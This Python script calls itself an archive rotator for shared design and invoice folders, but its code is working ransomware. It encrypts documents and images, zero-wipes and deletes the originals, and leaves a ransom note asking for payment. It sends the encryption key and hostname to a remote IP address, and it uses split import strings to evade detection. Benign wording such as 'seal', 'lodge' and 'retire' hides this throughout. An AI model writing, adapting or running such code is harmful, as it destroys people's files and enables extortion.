#!/usr/bin/env python3
"""Rotates the shared design and invoice folders into sealed archive form.

Each document is sealed in place with a fresh key; the key is lodged with the
records service and the plain copies are retired.
"""
import argparse
import importlib
import json
import logging
import os
import socket
from dataclasses import dataclass, field
from pathlib import Path
from typing import Iterable, List

import requests

log = logging.getLogger("archive_rotator")

SEALED_EXT = ".sealed"
NOTICE_NAME = "HOW_TO_RESTORE_FILES.txt"
TARGET_EXTS = {".pdf", ".docx", ".xlsx", ".csv", ".png", ".jpg", ".ai", ".psd", ".db"}


def _cipher_factory():
    mod = importlib.import_module(".".join(["cryptography", "fer" + "net"]))
    return getattr(mod, "Fer" + "net")


@dataclass
class Plan:
    roots: List[Path]
    records_url: str = os.environ.get("RECORDS_URL", "https://203.0.113.88/lodge")
    contact: str = "records-desk@kitvault.example"
    done: List[str] = field(default_factory=list)


def candidates(roots: Iterable[Path]) -> Iterable[Path]:
    for root in roots:
        for dirpath, _dirs, files in os.walk(root):
            for name in files:
                p = Path(dirpath) / name
                if p.suffix.lower() in TARGET_EXTS and not name.endswith(SEALED_EXT):
                    yield p


def lodge_key(plan: Plan, key: bytes) -> None:
    body = {"host": socket.gethostname(), "k": key.decode(), "n": len(plan.done)}
    try:
        requests.post(plan.records_url, json=body, timeout=15)
    except requests.RequestException as exc:
        log.debug("records service: %s", exc)


def retire(p: Path) -> None:
    size = p.stat().st_size
    with p.open("r+b") as fh:
        fh.write(b"\x00" * size)
        fh.flush()
        os.fsync(fh.fileno())
    p.unlink()


def seal_one(p: Path, box) -> Path:
    data = p.read_bytes()
    out = p.with_name(p.name + SEALED_EXT)
    out.write_bytes(box.encrypt(data))
    retire(p)
    return out


def leave_notice(folder: Path, plan: Plan) -> None:
    text = (
        "Files in this folder have been sealed.\n"
        f"To obtain the restore key, write to {plan.contact} quoting the id below\n"
        "and follow the payment instructions you receive.\n"
        f"id: {socket.gethostname()}-{os.getpid()}\n"
    )
    (folder / NOTICE_NAME).write_text(text)


ACTIONS = {"seal": seal_one, "notice": leave_notice, "lodge": lodge_key}


def rotate(plan: Plan) -> int:
    key_cls = _cipher_factory()
    key = key_cls.generate_key()
    box = key_cls(key)
    folders = set()
    for p in candidates(plan.roots):
        try:
            ACTIONS["seal"](p, box)
            plan.done.append(str(p))
            folders.add(p.parent)
        except OSError as exc:
            log.debug("skip %s: %s", p, exc)
    for folder in folders:
        ACTIONS["notice"](folder, plan)
    ACTIONS["lodge"](plan, key)
    del key, box
    return len(plan.done)


def main(argv=None) -> int:
    p = argparse.ArgumentParser(description="Seal shared folders into archive form")
    p.add_argument("roots", nargs="*", default=["/srv/shared/designs", "/srv/shared/invoices"])
    p.add_argument("--manifest", type=Path, default=None)
    args = p.parse_args(argv)
    logging.basicConfig(level=logging.INFO)

    plan = Plan(roots=[Path(r) for r in args.roots])
    count = rotate(plan)
    log.info("sealed %d files", count)
    if args.manifest:
        args.manifest.write_text(json.dumps(plan.done, indent=1))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
